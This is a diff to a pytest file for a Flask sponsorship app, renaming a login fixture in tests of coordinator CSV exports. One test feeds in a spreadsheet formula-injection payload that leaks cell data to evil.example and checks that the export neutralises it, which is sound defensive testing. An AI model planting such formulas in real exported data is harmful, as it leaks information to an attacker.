@@ -23,7 +23,7 @@ from godparents.prisoners.import_read import read_prisoners
 from godparents.prisoners.models import Prisoner, PrisonerAddress, PrisonerStatus
 from godparents.sponsors.models import Sponsor
 from godparents.sponsorships.models import Sponsorship, SponsorshipStatus
-from tests.conftest import SAMPLE_DATA, Auth, csrf_token
+from tests.conftest import SAMPLE_DATA, LoginAs, csrf_token
 from tests.factories import (
     make_coordinator,
     make_delegate,
@@ -158,10 +158,10 @@ def _pairing_with_action(summary: str) -> Action:
 
 @pytest.mark.parametrize("kind", ["prisoners", "sponsors", "sponsorships", "actions"])
 def test_each_export_downloads_as_dated_csv(
-    app, auth: Auth, client: FlaskClient, kind: str
+    app, login_as: LoginAs, client: FlaskClient, kind: str
 ) -> None:
     _pairing_with_action("Letter to the embassy")
-    auth.login(make_coordinator().email)
+    login_as(make_coordinator().email)
     response = client.get(f"/coordinator/prisoners/export/{kind}.csv")
     assert response.status_code == 200
     assert response.mimetype == "text/csv"
@@ -173,15 +173,17 @@ def test_each_export_downloads_as_dated_csv(
     assert event.changes == {"kind": kind, "rows": 1}
 
 
-def test_export_page_and_unknown_export(app, auth: Auth, client: FlaskClient) -> None:
-    auth.login(make_coordinator().email)
+def test_export_page_and_unknown_export(app, login_as: LoginAs, client: FlaskClient) -> None:
+    login_as(make_coordinator().email)
     page = client.get("/coordinator/prisoners/export")
     for kind in csvio.EXPORTS:
         assert f'href="/coordinator/prisoners/export/{kind}.csv"' in page.text
     assert client.get("/coordinator/prisoners/export/users.csv").status_code == 404
 
 
-def test_sponsor_export_has_no_secrets_or_notes(app, auth: Auth, client: FlaskClient) -> None:
+def test_sponsor_export_has_no_secrets_or_notes(
+    app, login_as: LoginAs, client: FlaskClient
+) -> None:
     sponsor = make_sponsor(
         full_name="Anna Schmidt", notes="Prefers calls after 6 pm", phone="+49 30 227 0"
     )
@@ -189,7 +191,7 @@ def test_sponsor_export_has_no_secrets_or_notes(app, auth: Auth, client: FlaskCl
     sponsor.user.totp_secret = "JBSWY3DPEHPK3PXP"
     delegate = make_delegate(sponsor, email="office@example.org")
     make_sponsorship(sponsor, make_prisoner(notes="Internal: health", health_notes="asthma"))
-    auth.login(make_coordinator().email)
+    login_as(make_coordinator().email)
     body = client.get("/coordinator/prisoners/export/sponsors.csv").get_data(as_text=True)
     [header, row] = _rows(body)
     values = dict(zip(header, row, strict=True))
@@ -211,10 +213,12 @@ def test_sponsor_export_has_no_secrets_or_notes(app, auth: Auth, client: FlaskCl
         assert "asthma" not in other and "Internal: health" not in other
 
 
-def test_formulas_are_neutralised_in_the_tables(app, auth: Auth, client: FlaskClient) -> None:
+def test_formulas_are_neutralised_in_the_tables(
+    app, login_as: LoginAs, client: FlaskClient
+) -> None:
     formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
     _pairing_with_action(formula)
-    auth.login(make_coordinator().email)
+    login_as(make_coordinator().email)
     [header, row] = _rows(client.get("/coordinator/prisoners/export/actions.csv").text)
     assert dict(zip(header, row, strict=True))["summary"] == "'" + formula
     for start in ("=", "+", "-", "@", "\t", "\r"):
@@ -280,9 +284,9 @@ def _seed_exports(count: int) -> None:
 
 @pytest.mark.parametrize("kind", ["prisoners", "sponsors", "sponsorships", "actions"])
 def test_exports_run_a_fixed_number_of_queries(
-    app, auth: Auth, client: FlaskClient, count_queries, kind: str
+    app, login_as: LoginAs, client: FlaskClient, count_queries, kind: str
 ) -> None:
-    auth.login(make_coordinator().email)
+    login_as(make_coordinator().email)
     path = f"/coordinator/prisoners/export/{kind}.csv"
     _seed_exports(10)
     with count_queries() as few:
@@ -320,9 +324,9 @@ def test_anonymous_users_are_sent_to_login(app, client: FlaskClient) -> None:
 
 @pytest.mark.parametrize("role", ["sponsor", "delegate"])
 def test_godparents_and_their_staff_get_403(
-    app, auth: Auth, client: FlaskClient, role: str
+    app, login_as: LoginAs, client: FlaskClient, role: str
 ) -> None:
     sponsor = make_sponsor()
-    auth.login(sponsor.email if role == "sponsor" else make_delegate(sponsor).email)
+    login_as(sponsor.email if role == "sponsor" else make_delegate(sponsor).email)
     for method, path in ROUTES:
         assert _request(client, method, path).status_code == 403, (method, path)
